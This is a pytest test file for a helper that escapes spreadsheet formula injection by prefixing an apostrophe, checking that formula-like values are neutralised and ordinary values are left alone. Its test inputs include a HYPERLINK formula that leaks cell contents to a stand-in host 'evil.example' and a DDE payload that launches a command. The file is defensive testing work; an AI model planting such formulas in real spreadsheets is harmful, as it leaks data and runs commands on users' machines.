"""Texts a spreadsheet would run as formulas are written as text (:mod:`sen_shared.spreadsheet`)."""

from __future__ import annotations

import pytest
from sen_shared.spreadsheet import cell


@pytest.mark.parametrize("typed", ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1"])
def test_a_formula_gets_an_apostrophe(typed):
    assert cell(typed) == "'" + typed


@pytest.mark.parametrize("value", ["-1000", "+84901234567", "-2,5", "1.000.000", "Nguyễn Văn An", "", "-", "=",
                                   "'=already text", 42, -130000, None, 2.5])
def test_anything_else_is_unchanged(value):
    assert cell(value) == value
